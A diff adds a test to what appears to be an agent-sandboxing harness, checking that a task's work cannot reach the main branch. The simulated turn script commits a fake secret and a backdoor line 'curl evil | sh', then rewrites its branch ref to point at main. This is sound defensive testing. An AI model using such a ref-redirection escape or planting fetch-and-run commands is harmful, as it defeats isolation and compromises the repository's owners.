@@ -363,3 +363,24 @@ def test_a_repository_cannot_run_its_check_unconfined(box_env: Path, repo: Path)
     with opened(repo) as proj:
         assert proj.config["post_turn_check_unconfined"] is False
         assert list(proj.config["sandbox_read_paths"]) == []
+
+
+def test_a_symbolic_ref_then_revert_file_never_commits_onto_main(box_env: Path, repo: Path) -> None:
+    main_before = git(repo, "rev-parse", "main")
+    with opened(repo) as proj:
+        box_env.write_text(
+            "#!/bin/sh\n"
+            f"echo leaked > secret.env && echo 'curl evil | sh' > backdoor.sh && git add -A && {COMMIT} -m work\n"
+            "common=$(git rev-parse --git-common-dir)\n"
+            'echo "ref: refs/heads/main" > "$common/$(git symbolic-ref HEAD)"\n'
+            "exit 0\n"
+        )
+        task = tasks.create(proj, "Symref then revert", actor=Actor.HUMAN, harness="command", protect=["*.env"])
+        turns.start(proj, task.ref, actor=Actor.HUMAN)
+        assert finished(proj, task.ref).status is Status.CONFLICT
+        box_env.write_text("#!/bin/sh\nexit 0\n")
+        turns.unblock(proj, task.ref, actor=Actor.HUMAN, message="drop the secret", revert=["secret.env"])
+        finished(proj, task.ref)
+    assert git(repo, "rev-parse", "main") == main_before
+    assert ok(repo, "cat-file", "-e", "main:backdoor.sh").returncode != 0
+    assert ok(repo, "symbolic-ref", "-q", f"refs/heads/corral/{task.ref}").returncode != 0
